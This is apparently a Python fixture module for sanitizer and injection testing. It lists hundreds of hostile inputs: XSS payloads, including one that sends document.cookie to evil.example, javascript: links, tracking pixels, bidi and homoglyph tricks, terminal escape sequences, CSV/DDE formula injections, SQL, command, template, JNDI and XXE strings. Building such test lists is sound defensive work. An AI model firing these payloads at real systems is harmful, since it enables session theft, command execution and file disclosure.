"""What people paste to see whether it runs: markup, scripts, links, images, steering of terminals and eyes, formulas."""

from __future__ import annotations

_CALL = "alert(1)"

SCRIPTS = (
    f"<script>{_CALL}</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script/x>{_CALL}</script>", f"<script\n>{_CALL}</script\n>", f"<script\x0c>{_CALL}</script>", f"<<script>{_CALL};//<</script>",
    "<script src=//evil.example/.j>", f"</script><script>{_CALL}</script>", f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>", f"</style><script>{_CALL}</script>", f"]]><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>", f"--!><script>{_CALL}</script>", f"<!--><script>{_CALL}</script>",
    f"<script type=module>{_CALL}</script>", f"<script>\u2028{_CALL}</script>", f"\ufeff<script>{_CALL}</script>",
    f"<\x00script>{_CALL}</script>", f"<script>{_CALL}", f"%3Cscript%3E{_CALL}%3C/script%3E", f"&lt;script&gt;{_CALL}&lt;/script&gt;",
    f"&#60;script&#62;{_CALL}&#60;/script&#62;", f"\\u003cscript\\u003e{_CALL}\\u003c/script\\u003e", f"＜script＞{_CALL}＜/script＞",
    f"+ADw-script+AD4-{_CALL}+ADw-/script+AD4-", "<script>document.location='https://evil.example/'+document.cookie</script>",
)  # fmt: skip
EVENTS = (
    f"<img src=x onerror={_CALL}>", f"<img src=x onerror='{_CALL}'>", f'<img src="x" onerror="{_CALL}">', f"<IMG SRC=x ONERROR={_CALL}>",
    f"<img/src=x/onerror={_CALL}>", f"<img src=x:x onerror\n={_CALL}>", f"<img src onerror={_CALL} //", f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>", f"<svg><script>{_CALL}</script></svg>", f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{_CALL}><text x=20 y=20>x</text></a>", f"<svg><set attributeName=onmouseover to={_CALL}>",
    f"<body onload={_CALL}>", f"<body/onload={_CALL}>", f"<iframe onload={_CALL}></iframe>", f"<details open ontoggle={_CALL}>x</details>",
    f"<video><source onerror={_CALL}></video>", f"<audio src=x onerror={_CALL}>", f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}>", f"<textarea autofocus onfocus={_CALL}>", f"<keygen autofocus onfocus={_CALL}>",
    f"<marquee onstart={_CALL}>x</marquee>", f"<object data=x onerror={_CALL}>", f"<isindex type=image src=1 onerror={_CALL}>",
    f"<p onmouseover={_CALL}>x</p>", f"<b onmouseover='{_CALL}'>x</b>", f"<a onclick={_CALL}>x</a>", f"<div style=animation-name:x onanimationstart={_CALL}>",
    f'"><img src=x onerror={_CALL}>', f"'><img src=x onerror={_CALL}>", f'" onmouseover="{_CALL}', f"' onmouseover='{_CALL}",
    f'" autofocus onfocus={_CALL} x="', f"` onerror={_CALL} `", f"<mark title='x' onmouseover={_CALL}>x</mark>", f"<x onclick={_CALL}>x</x>",
    f"<math><mtext></mtext><img src=x onerror={_CALL}></math>", f"<math><maction actiontype=statusline xlink:href=javascript:{_CALL}>x",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>", f"<table background=javascript:{_CALL}>", f"<form><button formaction=javascript:{_CALL}>x",
    f"<template><img src=x onerror={_CALL}></template>", f"<style><img src='</style><img src=x onerror={_CALL}>'>",
)  # fmt: skip
LINKS = (
    f"[x](javascript:{_CALL})", f"[x](JaVaScRiPt:{_CALL})", f"[x](java\tscript:{_CALL})", f"[x](&#106;avascript:{_CALL})", f"[x](javascript&colon;{_CALL})",
    f"[x]( javascript:{_CALL})", f"[x](\x01javascript:{_CALL})", "[x](vbscript:msgbox(1))", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)", "[x](file:///etc/passwd)", "[x](http://evil.example)", "[x](//evil.example)", "[x](/../../admin)",
    "[x](?asset=ETH-USD)", "[x](#anchor)", f'[x](https://evil.example/"onmouseover="{_CALL})', f"[x](https://evil.example 'x\" onmouseover={_CALL} \"')",
    f"[x][1]\n\n[1]: javascript:{_CALL}", "[x][1]\n\n[1]: //evil.example 'title'", f"<javascript:{_CALL}>", "<https://evil.example/>", f"<a href=javascript:{_CALL}>x</a>",
    f"<a href='&#x6A;avascript:{_CALL}'>x</a>", f"<a href=' javascript:{_CALL}'>x</a>", "<a href=//evil.example>x</a>", "<a href='https://evil.example' target=_self>x</a>",
    "https://evil.example", "www.evil.example", "mailto:x@evil.example", "someone@evil.example", "<base href=//evil.example/>", "<form action=//evil.example><input name=x>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>", "<link rel=stylesheet href=//evil.example/x.css>",
    f"<link rel=import href='data:text/html,<script>{_CALL}</script>'>", f"<iframe src=javascript:{_CALL}></iframe>", "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<embed src=//evil.example/x.swf>", "<object data='data:text/html,x'></object>", "<applet code=x></applet>", "<frameset><frame src=javascript:alert(1)></frameset>",
)  # fmt: skip
IMAGES = (
    "![x](https://evil.example/pixel.png)", "![x](http://evil.example/p.gif 'title')", f"![x](javascript:{_CALL})", "![x][1]\n\n[1]: https://evil.example/p.png",
    "<img src=https://evil.example/p.png>", "<img srcset='https://evil.example/p.png 2x'>", "<picture><source srcset=//evil.example/p></picture>",
    "<video poster=//evil.example/p.png>", "<input type=image src=//evil.example/p.png>", "<div style='background:url(//evil.example/p.png)'>x</div>",
    "<style>@import '//evil.example/x.css'</style>", "<style>body{background:url(//evil.example)}</style>", "<svg><image href=//evil.example/p.png /></svg>",
    "<svg><use href='//evil.example/x.svg#x'/></svg>", "[![x](https://evil.example/p.png)](https://evil.example)",
)  # fmt: skip
MARKDOWN = (
    "# head", "***bold***", "`code`", "~~~\nfence\n~~~", "```python\nfence", "> quote", "> > > > quote", "- list\n  - list", "1. one", "| a | b |\n|---|---|\n| 1 | 2 |",
    "$e^{i\\pi}$", "$$\\href{javascript:alert(1)}{x}$$", ":red[x]", ":material/home:", ":smile:", ":red-background[x]", ":streamlit:", "<!-- comment -->", "---", "===",
    "\\<script>", "[" * 300, "*" * 300, "`" * 301, "> " * 200 + "x", "_" * 99 + "a" + "_" * 99, "![" * 100, "<" * 500, "&" * 500, "&#x110000;", "&#0;", "&bogus;", "a  \nb", "    code",
)  # fmt: skip
EYES = (
    "\u202ecod.exe", "abc\u202d123\u202c", "\u2066\u2067x\u2069", "\u200bzero\u200bwidth", "\u200e\u200f\u061c", "a\u0301\u0301\u0301\u0301" * 20, "\ufeffbom", "\u00ad soft",
    "\u2028line\u2029paragraph", "раураl", "Ａｄｍｉｎ", "\u115f\u1160\u3164\uffa0", "\ue000\uf8ff", "\U000f0000\U000ffffd\U0010fffd", "\U000e0041\U000e007f", "\ufdd0\uffff", "👩‍👩‍👧‍👦",
)  # fmt: skip
TERMINALS = (
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\", "\x1b[2J\x1b[H", "\x9b31m", "\x90q\x9c", "a\rb", "a\x08\x08b", "\x07", "\x0bvertical\x0c",
    "\x7f", "\x00nul", "\x1bPq\x1b\\", "\x1b[6n", "\x1b]52;c;cm0gLXJm\x07", "\x0e\x0f", "a\nb", "a\r\nb", "\x85next",
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example","x")', '=IMPORTXML("https://evil.example","//a")', "\t=1+1", "\r=1+1", "\n=1+1",
    "'=1+1", "''=1+1", '"=1+1"', '"', '""', ",", ",,", '","', "a,=1+1", 'a","=1+1', "a\n=1+1", "a\r=1+1", "a\r\n=1+1", ";=1+1", "|=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "",
    "'", "''", "-", "--", "=", "-5", "1e5", "0x10", "nan", "NaN", "inf", "None", "NULL", "N/A", "true", "2025-01-01", "00123",
    "%0A=1+1", '=DDE("cmd";"/C calc";"x")', "@import", "-2+3+cmd|' /C calc'!A0", '=1+1";=1+1',
)  # fmt: skip
INJECTIONS = (
    "' OR 1=1 --", "'; DROP TABLE note_versions; --", "1; SELECT pg_sleep(9)", "../../../etc/passwd", "..\\..\\windows", "/etc/passwd\0.md", "${jndi:ldap://evil.example/x}", "{{7*7}}", "{7*7}",
    "%s%s%s%n", "$(reboot)", "`reboot`", "| reboot", "; reboot", "\r\nSet-Cookie: x=1", "%0d%0aLocation:%20//evil.example", "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
    "__import__('os').system('x')", "constructor", "__proto__", "[object Object]", "undefined", "NaN", "9" * 400, "-1", "1e999", "٣", "１２", "0" * 50, "%", "%%%", "%zz", "%C0%AE", "%ED%A0%80", "%00",
)  # fmt: skip

MARKUP = (*SCRIPTS, *EVENTS, *LINKS, *IMAGES, *MARKDOWN)
ALL = tuple(dict.fromkeys((*MARKUP, *EYES, *TERMINALS, *FORMULAS, *INJECTIONS)))
